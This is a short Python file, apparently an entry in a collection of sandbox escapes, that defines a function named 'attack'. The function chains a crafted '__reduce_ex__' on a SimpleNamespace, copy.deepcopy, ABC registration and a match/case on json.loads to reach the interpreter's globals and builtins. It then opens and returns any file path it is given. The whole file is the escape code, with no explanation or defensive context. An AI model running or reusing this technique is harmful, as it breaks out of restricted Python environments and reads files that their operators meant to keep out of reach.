# `SimpleNamespace` takes special names, and `copy` asks the object itself.
# after: read
# source: own
import copy
import json
from abc import ABC
from types import SimpleNamespace
class U(ABC): pass
def attack(path, **_):
    evil = SimpleNamespace(**{"__reduce_ex__": lambda p: (lambda: U, (), (None, {"__match_args__": ("__globals__",)}))})
    copy.deepcopy(evil)
    U.register(type(json.loads))
    match json.loads:
        case U(found):
            return {"text": found["__builtins__"]["open"](path).read()}
